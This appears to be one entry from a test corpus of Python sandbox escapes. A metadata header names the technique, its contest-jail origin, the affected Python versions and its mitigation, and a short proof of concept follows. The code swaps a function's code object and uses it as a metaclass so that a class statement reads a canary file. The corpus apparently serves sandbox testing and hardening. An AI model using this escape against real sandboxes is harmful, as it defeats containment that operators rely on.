# id: build-class-callable-metaclass
# family: protocol-hooks
# kind: escape
# invariant: D, E
# origin: prison, a contest jail of 2023
# technique: anything callable may be the metaclass, so a class statement is a call, here of the function type
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import textwrap


def read(name, bases, namespace):
    return open("canary.txt").read()


textwrap.dedent.__code__ = read.__code__
textwrap.dedent.__defaults__ = (None, None)


class token(metaclass=textwrap.dedent):
    pass


print(token)
